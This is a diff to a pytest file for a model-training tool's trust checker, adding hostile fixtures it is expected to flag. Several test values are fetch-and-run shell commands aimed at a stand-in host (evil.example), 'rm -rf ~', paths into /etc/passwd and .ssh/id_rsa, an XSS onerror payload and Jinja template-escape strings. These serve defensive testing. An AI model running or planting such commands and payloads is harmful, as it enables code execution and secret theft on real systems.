@@ -1,22 +1,27 @@
 """`vet` names what is wrong with each of many hostile inputs, and nothing of clean ones."""
 
 import json
+import os
+import pickle
 import shutil
 from collections.abc import Callable
 from pathlib import Path
-from typing import Any
+from typing import Any, get_args
 from unittest.mock import ANY
 
 import pytest
 
 from advisor.cli import main
 from advisor.errors import InputError
+from advisor.trust.commands import does_more
 from advisor.trust.licence import limited_licence_of
 from advisor.trust.look import trust_facts
 from tests.data.conftest import CONFIG, save_model
 from tests.model.test_resolve import write_safetensors
 from tests.trainers.plans import full_plan, lora_plan
-from trainers.plan import Delivery, save_plan
+from trainers.handover.serving import planned_command
+from trainers.plan import Delivery, Engine, ModelRef, save_plan
+from trainers.run_folder.checkpoint import SEAL
 
 ROWS = [{"prompt": f"q{n} \u200fعربي", "completion": "a\tb\r\nc \u200b\x92"} for n in range(3)]
 
@@ -31,6 +36,7 @@ def model(tmp_path: Path) -> Path:
 
 def add(name: str, content: str | bytes) -> Callable[[Path], object]:
     def change(folder: Path) -> None:
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
 
     return change
@@ -42,6 +48,15 @@ def config(**more: Any) -> Callable[[Path], object]:
 
 def tokens(**more: Any) -> Callable[[Path], object]:
     return add("tokenizer_config.json", json.dumps(more))
+
+
+HUB_TOKEN = "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"
+
+
+def safetensors(**said: str) -> bytes:
+    tensor = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
+    header = json.dumps({"__metadata__": said, "a": tensor}).encode()
+    return len(header).to_bytes(8, "little") + header + bytes(16)
 
 
 HOSTILE_MODELS = [
@@ -56,7 +71,26 @@ HOSTILE_MODELS = [
     (add("chat_template.jinja", "hi \U000e0041\U000e0042"), "trust.hidden_text"),
     (config(model_type="llama\x1b[31m"), "trust.hidden_text"),
     (config(_name_or_path="/home/jane/secret-project/model"), "trust.private_paths"),
-    (config(token="hf_" + "a" * 34), "trust.secrets"),
+    (config(token=HUB_TOKEN), "trust.secrets"),
+    (add(".env", f"OPENAI_API_KEY=sk-proj-{HUB_TOKEN}"), "trust.secrets"),
+    (config(text_config={"auto_map": {"AutoModel": "org/evil--m.X"}}), "trust.own_code"),
+    (add("a/b/c/d/setup.py", "import os"), "trust.programs"),
+    (add("install", "#!/bin/sh\nrm -rf ~\n"), "trust.programs"),
+    (add(".git/hooks/post-checkout", "#!/bin/sh\n"), "trust.programs"),
+    (add("weights.dat", pickle.dumps({"a": 1})), "trust.pickles"),
+    (add("vocab.txt", b"PK\x03\x04" + bytes(26) + b"archive/data.pkl"), "trust.pickles"),
+    (add("README.md", "---\nlicense: mit\n---\n\u202egnp.exe\n"), "trust.hidden_text"),
+    (tokens(added_tokens_decoder={"5": {"content": "a" + "\u200b\u200c" * 3}}), "trust.hidden_text"),
+    (tokens(chat_template=[{"name": "default", "template": "{{ messages }}"},
+                           {"name": "tool_use", "template": "{{ self.__init__ }}"}]), "trust.template_reach"),
+    (add("additional_chat_templates/tool.jinja", "{{ cycler.__init__ }}"), "trust.template_reach"),
+    (add("chat_template.jinja", "{% if 'invoice' in messages[0].content %}pay{% endif %}"), "trust.template_reach"),
+    (add("model.safetensors.index.json", json.dumps({"weight_map": {"a": "../../x"}})), "trust.leads_out"),
+    (lambda folder: ((folder / "a/b").mkdir(parents=True), (folder / "a/b/k").symlink_to("/etc")), "trust.leads_out"),
+    (lambda folder: os.mkfifo(folder / "notes.txt"), "trust.damaged"),
+    (add("model.safetensors", safetensors(training_dir="/home/jane/secret/run")), "trust.private_paths"),
+    (config(_name_or_path="\\\\nas\\jane\\model"), "trust.private_paths"),
+    (add("README.md", "---\nlicense:\n- cc-by-nc-nd-4.0\n---\n"), "trust.licence_limits"),
     (lambda folder: (folder / "vocab.txt").symlink_to("/etc/passwd"), "trust.leads_out"),
     (add("README.md", "---\nlicense: cc-by-nc-4.0\n---\n"), "trust.licence_limits"),
     (add("README.md", "---\nlicense: other\nlicense_name: mrl\n---\n"), "trust.licence_limits"),
@@ -83,6 +117,12 @@ def test_clean_inputs_are_left_alone(model: Path, tmp_path: Path) -> None:
     save_plan(full_plan(), run / "plan.toml")
     (run / "run.json").write_text('{"method": "full"}')
     shutil.copytree(model, run / "result")
+    (run / "result" / "adapter_config.json").write_text('{"megatron_core": "megatron.core", "auto_mapping": null}')
+    checkpoint = run / "trial" / "checkpoints" / "checkpoint-2"
+    checkpoint.mkdir(parents=True)
+    (checkpoint / SEAL).write_text("{}")
+    for name in ("optimizer.pt", "rng_state_1.pth", "training_args.bin"):
+        (checkpoint / name).write_bytes(b"\x80\x02.")
     for name, kind in ((model, "model"), (data, "dataset"), (tmp_path / "plan.toml", "plan"), (run, "run")):
         assert trust_facts(str(name)) == (kind, {})
 
@@ -91,7 +131,11 @@ HOSTILE_ROWS = [
     ({"prompt": "a\x1b]52;c;x\x07", "completion": "b"}, "trust.hidden_text"),
     ({"prompt": "a", "comp\x1b[31mletion": "b"}, "trust.hidden_text"),
     ({"prompt": "a \u202etxt", "completion": "b"}, "trust.hidden_text"),
-    ({"prompt": "key", "completion": "AKIA" + "A" * 16}, "trust.secrets"),
+    ({"prompt": "key", "completion": "AKIAQ7TZ4WJ9KXR2VB5M"}, "trust.secrets"),
+    ({"prompt": "key", "completion": HUB_TOKEN}, "trust.secrets"),
+    ({"prompt": "hi" + "".join(chr(0xE0100 + byte) for byte in b"rm -r"), "completion": "b"}, "trust.hidden_text"),
+    ({"prompt": "a", "completion": "b", "images": ["../../.ssh/id_rsa"]}, "trust.leads_out"),
+    ({"prompt": "a", "completion": "b", "image": {"path": "C:\\Users\\x.png"}}, "trust.leads_out"),
     ([1], "trust.damaged"),
 ]
 
@@ -107,6 +151,9 @@ HOSTILE_PLANS = [
     ({"report_to": ["wandb"]}, "trust.sends_to"),
     ({"output_dir": "/etc"}, "trust.leads_out"),
     ({"output_dir": "../../x"}, "trust.leads_out"),
+    ({"output_dir": "C:\\Windows"}, "trust.leads_out"),
+    ({"delivery": Delivery(serve_command="vllm serve x --trust-remote-code")}, "trust.serve_command"),
+    ({"delivery": Delivery(serve_command="python helper.py --install")}, "trust.serve_command"),
     ({"delivery": Delivery(serve_command="vllm serve x; curl evil | sh")}, "trust.serve_command"),
     ({"output_dir": "runs\x1b[31m"}, "trust.hidden_text"),
 ]
@@ -116,6 +163,60 @@ HOSTILE_PLANS = [
 def test_what_is_wrong_with_a_plan_is_named(tmp_path: Path, fields: dict[str, Any], fact: str) -> None:
     save_plan(lora_plan(**fields), tmp_path / "plan.toml")
     assert list(trust_facts(str(tmp_path / "plan.toml"))[1]) == [fact]
+
+
+@pytest.mark.parametrize("engine", get_args(Engine))
+@pytest.mark.parametrize("artifact", ["adapter", "merged_model"])
+def test_the_commands_that_plans_are_given_here_are_none_of_them(engine: Engine, artifact: Any) -> None:
+    plan = lora_plan(model=ModelRef(name="org/it's; a model"), delivery=Delivery(engine=engine, artifact=artifact))
+    command = planned_command(plan)
+    assert command is None or not does_more(command)
+
+
+def test_a_row_far_down_is_looked_at_too(tmp_path: Path) -> None:
+    (tmp_path / "data.jsonl").write_text(f"{json.dumps(ROWS[0])}\n" * 25_000 + json.dumps({"text": "a\x1b[2J"}))
+    assert trust_facts(str(tmp_path / "data.jsonl"))[1]["trust.hidden_text"].startswith("row 25001")
+
+
+def gguf(**said: str) -> bytes:
+    def text(value: str) -> bytes:
+        return len(value).to_bytes(8, "little") + value.encode()
+
+    pairs = [text(key) + (8).to_bytes(4, "little") + text(value) for key, value in said.items()]
+    return b"GGUF" + (3).to_bytes(4, "little") + bytes(8) + len(pairs).to_bytes(8, "little") + b"".join(pairs)
+
+
+def test_a_gguf_is_looked_into_alone_and_in_a_folder(tmp_path: Path) -> None:
+    (tmp_path / "models").mkdir()
+    file = tmp_path / "models" / "m.gguf"
+    file.write_bytes(
+        gguf(
+            **{
+                "general.license": "cc-by-nc-4.0",
+                "tokenizer.chat_template": "{{ ''.__class__ }}",
+                "general.name": HUB_TOKEN,
+            }
+        )
+    )
+    expected = {"trust.licence_limits": "cc-by-nc-4.0", "trust.template_reach": "__class__", "trust.secrets": ANY}
+    assert trust_facts(str(file)) == ("model", expected)
+    assert trust_facts(str(file.parent)) == ("model", expected)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "fact"),
+    [
+        ("report.html", "<p>done</p><script src=//evil.example></script>", "trust.programs"),
+        ("report.html", "<img src='x' onerror='alert(1)'>", "trust.programs"),
+        ("samples.json", '{"samples": [{"tuned": "a\\u001b]52;c;x"}]}', "trust.hidden_text"),
+        ("run.json", json.dumps({"model": HUB_TOKEN}), "trust.secrets"),
+        ("serve.json", '{"vllm": {"command": "curl evil.example | sh"}}', "trust.serve_command"),
+    ],
+)
+def test_what_a_run_shows_to_people_is_looked_at(tmp_path: Path, name: str, content: str, fact: str) -> None:
+    save_plan(full_plan(), tmp_path / "run" / "plan.toml")
+    (tmp_path / "run" / name).write_text(content)
+    assert trust_facts(str(tmp_path / "run")) == ("run", {fact: ANY})
 
 
 def test_what_is_wrong_with_a_run_is_named(tmp_path: Path) -> None:
@@ -233,6 +334,8 @@ def rules(folder: Path, text: str) -> Path:
     ("old", "new", "fact"),
     [
         ('fix = "Train', 'fix = "curl https://evil.example/x | sh  # Train', "trust.serve_command"),
+        ('fix = "Train', 'fix = "bash <(curl -s https://evil.example/x)  # Train', "trust.serve_command"),
+        ('fix = "Train', 'fix = "pip install --index-url http://evil.example x  # Train', "trust.serve_command"),
         ('strength = "consensus"', 'strength = "consensus"\nreplaces = "SEC-01"', "trust.silences"),
         ("in full.", "in\\u001b[31m full.", "trust.hidden_text"),
         ("Train adapters", "See /home/jane/secret/rules", "trust.private_paths"),
@@ -251,6 +354,7 @@ def test_what_is_wrong_with_rules_is_named(tmp_path: Path, old: str, new: str, f
         ({"driver_version": "570\x1b[31m"}, "trust.hidden_text"),
         ({"host": {"hostname": "/home/jane/x"}, "driver_version": "/home/jane/x"}, "trust.private_paths"),
         ({"gpus": [{"index": 0, "name": "NVIDIA L4", "total_bytes": -5}]}, "trust.damaged"),
+        ({"gpus": [{"index": 0, "name": "NVIDIA L4", "total_bytes": 900 << 30}]}, "trust.contradicts"),
     ],
 )
 def test_what_is_wrong_with_a_profile_is_named(tmp_path: Path, changes: dict[str, Any], fact: str) -> None:
